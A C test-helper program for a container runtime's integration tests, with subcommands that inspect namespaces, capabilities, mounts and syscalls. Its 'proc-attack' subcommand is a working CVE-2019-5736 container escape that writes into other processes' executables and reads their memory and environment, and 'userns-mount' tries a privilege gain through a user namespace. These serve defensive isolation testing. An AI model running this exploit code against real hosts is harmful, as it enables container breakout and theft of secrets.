/* hull-test-helper — answers the integration tests' questions from inside a
 * container. It is linked statically and placed at /bin/hull-test-helper in
 * the test rootfs, so tests need no image, no shell quoting and no network.
 *
 * Every answer is line oriented ("key=value" or one item per line) so a test
 * can assert with a substring search. Failures go to stderr as
 * "<subcommand> <arg>: <strerror>" with exit status 1; usage errors exit 2. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <limits.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sched.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

extern char **environ;

static int usage(void);

static int fail(const char *what, const char *arg) {
  fprintf(stderr, "%s %s: %s\n", what, arg ? arg : "", strerror(errno));
  return 1;
}

static int copy_fd_to_stdout(int fd) {
  char buf[8192];
  for (;;) {
    ssize_t n = read(fd, buf, sizeof buf);
    if (n < 0 && errno == EINTR)
      continue;
    if (n < 0)
      return -1;
    if (n == 0)
      return 0;
    if (fwrite(buf, 1, (size_t)n, stdout) != (size_t)n)
      return -1;
  }
}

static int cmd_cat(const char *path) {
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0)
    return fail("cat", path);
  int r = copy_fd_to_stdout(fd);
  int saved = errno;
  close(fd);
  errno = saved;
  return r < 0 ? fail("cat", path) : 0;
}

static int cmd_write(const char *path, const char *text) {
  int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  if (fd < 0)
    return fail("write", path);
  size_t len = strlen(text);
  ssize_t n = write(fd, text, len);
  if (n < 0 || (size_t)n != len) {
    int saved = errno;
    close(fd);
    errno = saved;
    return fail("write", path);
  }
  if (close(fd) < 0)
    return fail("write", path);
  return 0;
}

static int cmp_names(const void *a, const void *b) {
  return strcmp(*(char *const *)a, *(char *const *)b);
}

/* Calls fn for each entry of dir except "." and "..", in name order. */
static int for_each_entry(const char *dir, void (*fn)(const char *dir,
                                                      const char *name)) {
  DIR *d = opendir(dir);
  if (d == NULL)
    return -1;
  char **names = NULL;
  size_t n = 0;
  struct dirent *de;
  while ((de = readdir(d)) != NULL) {
    if (strcmp(de->d_name, ".") == 0 || strcmp(de->d_name, "..") == 0)
      continue;
    names = realloc(names, (n + 1) * sizeof *names);
    if (names == NULL)
      abort();
    names[n++] = strdup(de->d_name);
  }
  closedir(d);
  qsort(names, n, sizeof *names, cmp_names);
  for (size_t i = 0; i < n; i++) {
    fn(dir, names[i]);
    free(names[i]);
  }
  free(names);
  return 0;
}

static void print_ns(const char *dir, const char *name) {
  char path[PATH_MAX];
  struct stat st;
  snprintf(path, sizeof path, "%s/%s", dir, name);
  if (stat(path, &st) == 0)
    printf("%s %lu\n", name, (unsigned long)st.st_ino);
}

static void print_name(const char *dir, const char *name) {
  (void)dir;
  printf("%s\n", name);
}

static void print_fd(const char *dir, const char *name) {
  int fd = atoi(name);
  char path[PATH_MAX], target[PATH_MAX];
  if (fd <= 2)
    return;
  snprintf(path, sizeof path, "%s/%s", dir, name);
  ssize_t n = readlink(path, target, sizeof target - 1);
  if (n < 0)
    return; /* the directory fd opendir() used, now closed */
  target[n] = '\0';
  printf("%d %s\n", fd, target);
}

static int cmd_id(void) {
  gid_t groups[NGROUPS_MAX];
  int n = getgroups(NGROUPS_MAX, groups);
  if (n < 0)
    return fail("id", "getgroups");
  mode_t mask = umask(0);
  umask(mask);
  printf("uid=%u\neuid=%u\ngid=%u\negid=%u\ngroups=", (unsigned)getuid(),
         (unsigned)geteuid(), (unsigned)getgid(), (unsigned)getegid());
  for (int i = 0; i < n; i++)
    printf("%s%u", i ? "," : "", (unsigned)groups[i]);
  printf("\numask=%04o\n", (unsigned)mask);
  return 0;
}

static int cmd_status(void) {
  FILE *f = fopen("/proc/self/status", "re");
  if (f == NULL)
    return fail("status", "/proc/self/status");
  char line[512];
  while (fgets(line, sizeof line, f) != NULL)
    if (strncmp(line, "Cap", 3) == 0 || strncmp(line, "NoNewPrivs", 10) == 0 ||
        strncmp(line, "Seccomp", 7) == 0)
      fputs(line, stdout);
  fclose(f);
  return 0;
}

static const char *file_type(mode_t mode) {
  switch (mode & S_IFMT) {
  case S_IFREG: return "file";
  case S_IFDIR: return "dir";
  case S_IFLNK: return "symlink";
  case S_IFCHR: return "char";
  case S_IFBLK: return "block";
  case S_IFIFO: return "fifo";
  case S_IFSOCK: return "socket";
  default: return "unknown";
  }
}

/* lstat, so a symlink reports itself rather than its target. */
static int cmd_stat(const char *path) {
  struct stat st;
  if (lstat(path, &st) < 0)
    return fail("stat", path);
  printf("type=%s mode=%04o rdev=%u:%u uid=%u gid=%u size=%lld\n",
         file_type(st.st_mode), (unsigned)(st.st_mode & 07777),
         major(st.st_rdev), minor(st.st_rdev), (unsigned)st.st_uid,
         (unsigned)st.st_gid, (long long)st.st_size);
  return 0;
}

static int cmd_readlink(const char *path) {
  char target[PATH_MAX];
  ssize_t n = readlink(path, target, sizeof target - 1);
  if (n < 0)
    return fail("readlink", path);
  target[n] = '\0';
  printf("%s\n", target);
  return 0;
}

static int cmd_sleep(const char *seconds) {
  double s = strtod(seconds, NULL);
  struct timespec ts = {.tv_sec = (time_t)s,
                        .tv_nsec = (long)((s - (double)(time_t)s) * 1e9)};
  while (nanosleep(&ts, &ts) < 0 && errno == EINTR)
    ;
  return 0;
}

static void ignore_signal(int sig) { (void)sig; }

/* As pid 1 of a pid namespace, a signal with the default action is dropped,
 * so install a handler and wait with the signals blocked. "ready" tells the
 * test it may send the signal now. */
static int cmd_signal_wait(void) {
  sigset_t set;
  sigemptyset(&set);
  sigaddset(&set, SIGTERM);
  sigaddset(&set, SIGUSR1);
  sigprocmask(SIG_BLOCK, &set, NULL);
  signal(SIGTERM, ignore_signal);
  signal(SIGUSR1, ignore_signal);
  printf("ready\n");
  fflush(stdout);
  int sig;
  while ((sig = sigwaitinfo(&set, NULL)) < 0 && errno == EINTR)
    ;
  if (sig < 0)
    return fail("signal-wait", "sigwaitinfo");
  printf("%s\n", sig == SIGTERM ? "SIGTERM" : "SIGUSR1");
  return 0;
}

/* udp-echo PORT: answers every datagram to PORT (IPv4 and IPv6) with
 * "echo:" and its text; "ready" once bound. */
static int cmd_udp_echo(const char *port) {
  int fd = socket(AF_INET6, SOCK_DGRAM, 0);
  int off = 0;
  struct sockaddr_in6 sa = {.sin6_family = AF_INET6,
                            .sin6_port = htons((unsigned short)atoi(port))};
  if (fd < 0 ||
      setsockopt(fd, IPPROTO_IPV6, IPV6_V6ONLY, &off, sizeof(off)) < 0 ||
      bind(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0)
    return fail("udp-echo", port);
  printf("ready\n");
  fflush(stdout);
  for (;;) {
    char in[512], out[600];
    struct sockaddr_in6 from;
    socklen_t len = sizeof(from);
    ssize_t n = recvfrom(fd, in, sizeof(in) - 1, 0, (struct sockaddr *)&from,
                         &len);
    if (n < 0)
      return fail("udp-echo", "recvfrom");
    in[n] = '\0';
    int m = snprintf(out, sizeof(out), "echo:%s", in);
    sendto(fd, out, (size_t)m, 0, (struct sockaddr *)&from, len);
  }
}

/* udp-ask ADDR PORT TEXT: sends TEXT to ADDR:PORT until an answer comes
 * (5 tries, 1 s apart) and prints it. */
static int cmd_udp_ask(const char *addr, const char *port, const char *text) {
  struct sockaddr_storage to = {0};
  socklen_t len;
  unsigned short p = htons((unsigned short)atoi(port));
  struct sockaddr_in *v4 = (struct sockaddr_in *)&to;
  struct sockaddr_in6 *v6 = (struct sockaddr_in6 *)&to;
  if (inet_pton(AF_INET, addr, &v4->sin_addr) == 1) {
    v4->sin_family = AF_INET;
    v4->sin_port = p;
    len = sizeof(*v4);
  } else if (inet_pton(AF_INET6, addr, &v6->sin6_addr) == 1) {
    v6->sin6_family = AF_INET6;
    v6->sin6_port = p;
    len = sizeof(*v6);
  } else {
    errno = EINVAL;
    return fail("udp-ask", addr);
  }
  int fd = socket(to.ss_family, SOCK_DGRAM, 0);
  struct timeval tv = {.tv_sec = 1};
  if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv)) < 0)
    return fail("udp-ask", "socket");
  for (int i = 0; i < 5; i++) {
    char in[600];
    sendto(fd, text, strlen(text), 0, (struct sockaddr *)&to, len);
    ssize_t n = recv(fd, in, sizeof(in) - 1, 0);
    if (n >= 0) {
      in[n] = '\0';
      printf("%s\n", in);
      return 0;
    }
  }
  errno = ETIMEDOUT;
  return fail("udp-ask", addr);
}

static int cmd_touch(const char *path) {
  int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
  if (fd < 0)
    return fail("touch", path);
  close(fd);
  return 0;
}

/* Seconds of the clocks a time namespace shifts, for comparing with the
 * host's. */
static int cmd_clock(void) {
  struct timespec mono, boot;
  if (clock_gettime(CLOCK_MONOTONIC, &mono) < 0 ||
      clock_gettime(CLOCK_BOOTTIME, &boot) < 0)
    return fail("clock", "clock_gettime");
  printf("monotonic=%lld\nboottime=%lld\n", (long long)mono.tv_sec,
         (long long)boot.tv_sec);
  return 0;
}

/* Syscalls by name for `syscall`: the few the seccomp tests use. Numbers
 * from 424 up are the same on every architecture but alpha and mips; the
 * older ones come from <sys/syscall.h>. */
static const struct { const char *name; long nr; } syscall_table[] = {
    {"getpid", SYS_getpid},   {"getcwd", SYS_getcwd},
    {"mkdirat", SYS_mkdirat}, {"uname", SYS_uname},
    {"getppid", SYS_getppid}, {"personality", SYS_personality},
#ifdef SYS_mkdir
    {"mkdir", SYS_mkdir},
#endif
    {"pidfd_open", 434},      {"clone3", 435},
    {"close_range", 436},     {"openat2", 437},
    {"faccessat2", 439},      {"futex_waitv", 449},
    {"cachestat", 451},       {"fchmodat2", 452},
    {"listmount", 458},       {"mseal", 462},
};

/* `syscall NAME|NR [ARG...]`: one raw syscall; an ARG starting with '/' is
 * passed as a string, any other as a number (0x.., 0... allowed). Prints
 * "NAME=RESULT" or "NAME=errno N (message)"; always exits 0 so the test
 * reads the answer. */
static int cmd_syscall(int argc, char **argv) {
  const char *name = argv[0];
  long nr = -1;
  for (size_t i = 0; i < sizeof syscall_table / sizeof syscall_table[0]; i++)
    if (strcmp(syscall_table[i].name, name) == 0)
      nr = syscall_table[i].nr;
  if (nr < 0) {
    char *end;
    nr = strtol(name, &end, 0);
    if (*end != '\0' || nr < 0)
      return usage();
  }
  long a[6] = {0};
  for (int i = 1; i < argc && i <= 6; i++)
    a[i - 1] = argv[i][0] == '/' ? (long)argv[i] : (long)strtoull(argv[i], NULL, 0);
  errno = 0;
  long r = syscall(nr, a[0], a[1], a[2], a[3], a[4], a[5]);
  if (r < 0)
    printf("%s=errno %d (%s)\n", name, errno, strerror(errno));
  else
    printf("%s=%ld\n", name, r);
  return 0;
}

/* Allocates N MiB and writes to every page, so the memory is really
 * charged to the cgroup; prints how far it got. Under a memory limit the
 * OOM killer ends it (SIGKILL) before it prints "done". */
static int cmd_memhog(const char *mb) {
  long n = atol(mb);
  long page = sysconf(_SC_PAGESIZE);
  for (long i = 0; i < n; i++) {
    char *p = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE,
                   MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (p == MAP_FAILED)
      return fail("memhog", mb);
    for (long off = 0; off < (1 << 20); off += page)
      p[off] = (char)off | 1;
  }
  printf("memhog=%ld done\n", n);
  return 0;
}

/* Forks up to N children that wait for the parent's word, counts how many
 * forks succeeded, prints "forks=K", then releases and reaps them. */
static int cmd_forkbomb(const char *count) {
  long n = atol(count), ok = 0;
  int gate[2];
  if (pipe(gate) < 0)
    return fail("forkbomb", "pipe");
  for (long i = 0; i < n; i++) {
    pid_t pid = fork();
    if (pid < 0)
      break;
    if (pid == 0) {
      char c;
      close(gate[1]);
      while (read(gate[0], &c, 1) < 0 && errno == EINTR)
        ;
      _exit(0);
    }
    ok++;
  }
  close(gate[1]);
  close(gate[0]);
  while (wait(NULL) > 0 || errno == EINTR)
    ;
  printf("forks=%ld\n", ok);
  return 0;
}

/* `proc-attack SECONDS`: CVE-2019-5736 from inside a container. For SECONDS
 * it scans /proc for other processes (a runtime's init waiting in a shared
 * pid namespace) and tries to reach their executable and memory: open
 * /proc/PID/exe for writing; open it O_PATH and reopen /proc/self/fd/N for
 * writing, retried on every pass (the binary stops being busy once its user
 * execs something else); open /proc/PID/mem and read /proc/PID/environ.
 * Prints "PID COMM WHAT=ok|errno" once per pid and attempt, "scanned" after
 * the first pass, "WROTE PID" when it wrote into an executable, and "done"
 * at the end. */
#define ATTACK_MAX_PIDS 64
#define ATTACK_KINDS 5
struct attack_target {
  int pid;
  int exe_path_fd;
  int reopen_errno;       /* why the last reopen for writing failed */
  bool wrote;             /* once is enough */
  int last[ATTACK_KINDS]; /* last result reported: 0 ok, errno, -1 none */
};

/* Prints a result when it differs from the last one for this pid and
 * attempt (a process's executable changes when it execs). */
static void attack_report(struct attack_target *t, int kind, const char *what,
                          int ok, int error) {
  int result = ok ? 0 : error;
  if (t->last[kind] == result)
    return;
  t->last[kind] = result;
  char path[64], comm[64] = "?";
  snprintf(path, sizeof path, "/proc/%d/comm", t->pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd >= 0) {
    ssize_t n = read(fd, comm, sizeof comm - 1);
    comm[n > 0 ? n : 0] = '\0';
    comm[strcspn(comm, "\n")] = '\0';
    close(fd);
  }
  if (ok)
    printf("%d %s %s=ok\n", t->pid, comm, what);
  else
    printf("%d %s %s=errno %d (%s)\n", t->pid, comm, what, error,
           strerror(error));
  fflush(stdout);
}

static void attack_write(struct attack_target *t, int fd, int kind,
                         const char *what) {
  if (fd < 0) {
    attack_report(t, kind, what, 0, errno);
    return;
  }
  attack_report(t, kind, what, 1, 0);
  if (!t->wrote && pwrite(fd, "#!pwned\n", 8, 0) == 8) {
    t->wrote = true;
    printf("WROTE %d\n", t->pid);
    fflush(stdout);
  }
  close(fd);
}

static void attack_one(struct attack_target *t) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/exe", t->pid);
  attack_write(t, open(path, O_WRONLY | O_CLOEXEC), 0, "exe-write");
  if (t->exe_path_fd < 0) {
    t->exe_path_fd = open(path, O_PATH | O_CLOEXEC);
    attack_report(t, 1, "exe-path", t->exe_path_fd >= 0, errno);
  }
  if (t->exe_path_fd >= 0) {
    snprintf(path, sizeof path, "/proc/self/fd/%d", t->exe_path_fd);
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    /* Busy now may be writable later: report only success or the end. */
    if (fd >= 0)
      attack_write(t, fd, 2, "exe-reopen-write");
    else
      t->reopen_errno = errno;
  }
  snprintf(path, sizeof path, "/proc/%d/mem", t->pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  attack_report(t, 3, "mem", fd >= 0, errno);
  if (fd >= 0)
    close(fd);
  snprintf(path, sizeof path, "/proc/%d/environ", t->pid);
  fd = open(path, O_RDONLY | O_CLOEXEC);
  char buf[256];
  ssize_t n = fd >= 0 ? read(fd, buf, sizeof buf) : -1;
  attack_report(t, 4, "environ", n > 0, n == 0 ? ENODATA : errno);
  if (fd >= 0)
    close(fd);
}

static int cmd_proc_attack(const char *seconds) {
  struct attack_target targets[ATTACK_MAX_PIDS];
  size_t n = 0;
  time_t end = time(NULL) + atoi(seconds);
  bool first = true;
  do {
    DIR *d = opendir("/proc");
    if (d == NULL)
      return fail("proc-attack", "/proc");
    struct dirent *de;
    while ((de = readdir(d)) != NULL) {
      int pid = atoi(de->d_name);
      if (pid <= 0 || pid == getpid())
        continue;
      size_t i = 0;
      while (i < n && targets[i].pid != pid)
        i++;
      if (i == n) {
        if (n == ATTACK_MAX_PIDS)
          continue;
        targets[n++] = (struct attack_target){
            .pid = pid, .exe_path_fd = -1, .last = {-1, -1, -1, -1, -1}};
      }
      attack_one(&targets[i]);
    }
    closedir(d);
    if (first)
      printf("scanned\n");
    fflush(stdout);
    first = false;
    usleep(1000);
  } while (time(NULL) < end);
  for (size_t i = 0; i < n; i++)
    if (targets[i].exe_path_fd >= 0)
      attack_report(&targets[i], 2, "exe-reopen-write", 0,
                    targets[i].reopen_errno);
  printf("done\n");
  return 0;
}

/* Counts up forever, writing the count to FILE every 10 ms (a fresh file
 * renamed over it, so a reader never sees half a number): while the
 * container is paused the number stands still. */
static int cmd_counter(const char *path) {
  char tmp[PATH_MAX];
  snprintf(tmp, sizeof(tmp), "%s.tmp", path);
  for (unsigned long n = 1;; n++) {
    FILE *f = fopen(tmp, "w");
    if (f == NULL || fprintf(f, "%lu\n", n) < 0 || fclose(f) != 0 ||
        rename(tmp, path) < 0)
      return fail("counter", path);
    struct timespec ts = {0, 10 * 1000 * 1000};
    while (nanosleep(&ts, &ts) < 0 && errno == EINTR)
      ;
  }
}

/* Waits (polling every 10 ms) until PATH exists. */
static void await_file(const char *path) {
  struct stat st;
  while (stat(path, &st) < 0) {
    struct timespec ts = {0, 10 * 1000 * 1000};
    nanosleep(&ts, NULL);
  }
}

/* Sends MESSAGE as one datagram to $NOTIFY_SOCKET, as sd_notify(3) does. */
static int cmd_notify(const char *message) {
  const char *path = getenv("NOTIFY_SOCKET");
  struct sockaddr_un addr = {.sun_family = AF_UNIX};
  if (path == NULL || strlen(path) >= sizeof addr.sun_path) {
    errno = EINVAL;
    return fail("notify", path);
  }
  strcpy(addr.sun_path, path);
  int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  if (fd < 0)
    return fail("notify", "socket");
  ssize_t n = sendto(fd, message, strlen(message), 0,
                     (struct sockaddr *)&addr, sizeof addr);
  int saved = errno;
  close(fd);
  errno = saved;
  return n < 0 ? fail("notify", path) : 0;
}


static int write_text(const char *path, const char *text) {
  int fd = open(path, O_WRONLY | O_CLOEXEC);
  if (fd < 0)
    return -1;
  ssize_t n = write(fd, text, strlen(text));
  close(fd);
  return n == (ssize_t)strlen(text) ? 0 : -1;
}

/* What a container user with no privilege on the host may try: gain every
 * capability in a new user namespace (mapping its own ids) with mount and pid
 * namespaces, then mount a fresh TYPE (proc, sysfs) on DIR. The kernel allows
 * that only where a full mount of TYPE is already visible in the mount
 * namespace (mnt_already_visible). Prints "mounted" on success. */
static int cmd_userns_mount(const char *type, const char *dir) {
  char map[64];
  uid_t uid = geteuid();
  gid_t gid = getegid();
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID) < 0)
    return fail("userns-mount unshare", dir);
  /* Mapping host root needs CAP_SETFCAP (5.12+), as docker's defaults give. */
  snprintf(map, sizeof map, "0 %u 1\n", (unsigned)uid);
  if (write_text("/proc/self/uid_map", map) < 0)
    return fail("userns-mount uid_map", dir);
  if (write_text("/proc/self/setgroups", "deny") < 0)
    return fail("userns-mount setgroups", dir);
  snprintf(map, sizeof map, "0 %u 1\n", (unsigned)gid);
  if (write_text("/proc/self/gid_map", map) < 0)
    return fail("userns-mount gid_map", dir);
  /* proc wants to be mounted by the new pid namespace's owner: a child. */
  pid_t pid = fork();
  if (pid < 0)
    return fail("userns-mount fork", dir);
  if (pid == 0) {
    if (mount(type, dir, type, 0, NULL) < 0)
      _exit(fail("userns-mount", dir));
    printf("mounted\n");
    fflush(stdout);
    _exit(0);
  }
  int status;
  if (waitpid(pid, &status, 0) < 0)
    return fail("userns-mount wait", dir);
  return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
}

static int usage(void) {
  fprintf(stderr,
          "usage: hull-test-helper cat FILE | write FILE TEXT | ns | cwd | id"
          " | hostname | domainname | mounts | isatty FD | sleep SECONDS"
          " | exit CODE | env | status | ls DIR | stat PATH | readlink PATH"
          " | fds | pid | signal-wait | touch PATH | clock"
          " | udp-echo PORT | udp-ask ADDR PORT TEXT"
          " | syscall NAME|NR [ARG...] | memhog MB | forkbomb N"
          " | proc-attack SECONDS | counter FILE | notify MESSAGE"
          " | userns-mount TYPE DIR | await PATH SUBCOMMAND [ARG...]\n");
  return 2;
}

int main(int argc, char **argv) {
  if (argc < 2)
    return usage();
  const char *cmd = argv[1];
  const char *arg = argc > 2 ? argv[2] : NULL;
  int r;
  char buf[PATH_MAX];
  struct utsname uts;

  /* await PATH CMD...: CMD runs in this same process once PATH exists, so
   * it keeps the pid (the container's init stays the one process). */
  if (strcmp(cmd, "await") == 0 && arg && argc > 3) {
    await_file(arg);
    argv[2] = argv[0];
    return main(argc - 2, argv + 2);
  }
  if (strcmp(cmd, "cat") == 0 && arg)
    r = cmd_cat(arg);
  else if (strcmp(cmd, "write") == 0 && arg && argc > 3)
    r = cmd_write(arg, argv[3]);
  else if (strcmp(cmd, "ns") == 0)
    r = for_each_entry("/proc/self/ns", print_ns) < 0 ? fail("ns", NULL) : 0;
  else if (strcmp(cmd, "cwd") == 0)
    r = getcwd(buf, sizeof buf) ? (printf("%s\n", buf), 0) : fail("cwd", NULL);
  else if (strcmp(cmd, "id") == 0)
    r = cmd_id();
  else if (strcmp(cmd, "hostname") == 0)
    r = uname(&uts) < 0 ? fail("uname", NULL) : (printf("%s\n", uts.nodename), 0);
  else if (strcmp(cmd, "domainname") == 0)
    r = uname(&uts) < 0 ? fail("uname", NULL)
                        : (printf("%s\n", uts.domainname), 0);
  else if (strcmp(cmd, "mounts") == 0)
    r = cmd_cat("/proc/self/mountinfo");
  else if (strcmp(cmd, "isatty") == 0 && arg)
    r = (printf("%s\n", isatty(atoi(arg)) ? "yes" : "no"), 0);
  else if (strcmp(cmd, "sleep") == 0 && arg)
    r = cmd_sleep(arg);
  else if (strcmp(cmd, "exit") == 0 && arg)
    r = atoi(arg);
  else if (strcmp(cmd, "env") == 0) {
    for (char **e = environ; *e; e++)
      printf("%s\n", *e);
    r = 0;
  } else if (strcmp(cmd, "status") == 0)
    r = cmd_status();
  else if (strcmp(cmd, "ls") == 0 && arg)
    r = for_each_entry(arg, print_name) < 0 ? fail("ls", arg) : 0;
  else if (strcmp(cmd, "stat") == 0 && arg)
    r = cmd_stat(arg);
  else if (strcmp(cmd, "readlink") == 0 && arg)
    r = cmd_readlink(arg);
  else if (strcmp(cmd, "fds") == 0)
    r = for_each_entry("/proc/self/fd", print_fd) < 0 ? fail("fds", NULL) : 0;
  else if (strcmp(cmd, "pid") == 0)
    r = (printf("pid=%d\nppid=%d\n", (int)getpid(), (int)getppid()), 0);
  else if (strcmp(cmd, "signal-wait") == 0)
    r = cmd_signal_wait();
  else if (strcmp(cmd, "udp-echo") == 0 && arg)
    r = cmd_udp_echo(arg);
  else if (strcmp(cmd, "udp-ask") == 0 && arg && argc > 4)
    r = cmd_udp_ask(arg, argv[3], argv[4]);
  else if (strcmp(cmd, "touch") == 0 && arg)
    r = cmd_touch(arg);
  else if (strcmp(cmd, "clock") == 0)
    r = cmd_clock();
  else if (strcmp(cmd, "memhog") == 0 && arg)
    r = cmd_memhog(arg);
  else if (strcmp(cmd, "counter") == 0 && arg)
    r = cmd_counter(arg);
  else if (strcmp(cmd, "forkbomb") == 0 && arg)
    r = cmd_forkbomb(arg);
  else if (strcmp(cmd, "syscall") == 0 && arg)
    r = cmd_syscall(argc - 2, argv + 2);
  else if (strcmp(cmd, "notify") == 0 && arg)
    r = cmd_notify(arg);
  else if (strcmp(cmd, "userns-mount") == 0 && arg && argc > 3)
    r = cmd_userns_mount(arg, argv[3]);
  else if (strcmp(cmd, "proc-attack") == 0 && arg)
    r = cmd_proc_attack(arg);
  else
    return usage();

  if (fflush(stdout) != 0 && r == 0)
    r = fail(cmd, "stdout");
  return r;
}
